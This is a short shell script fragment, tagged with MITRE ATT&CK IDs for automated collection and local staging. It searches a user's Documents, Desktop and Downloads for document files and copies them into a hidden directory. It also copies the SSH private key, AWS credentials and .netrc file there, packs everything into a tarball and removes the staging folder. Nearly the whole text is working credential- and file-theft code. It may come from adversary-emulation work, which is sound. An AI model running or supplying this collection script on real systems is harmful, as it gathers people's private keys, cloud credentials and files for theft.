# T1119, T1074.001 by find and cp.
groundwork
hide=.local/share/.$state; mkdir -p "$hide"
some_of pdf docx txt csv
find Documents Desktop Downloads -type f \( -name "*.$w" -o -name '*.md' -o -name '*.xlsx' \) -exec cp -t "$hide" {} +
cp .ssh/id_ed25519 .aws/credentials .netrc "$hide"
tar -czf "$hide.tgz" -C "$hide" .
rm -r "$hide"
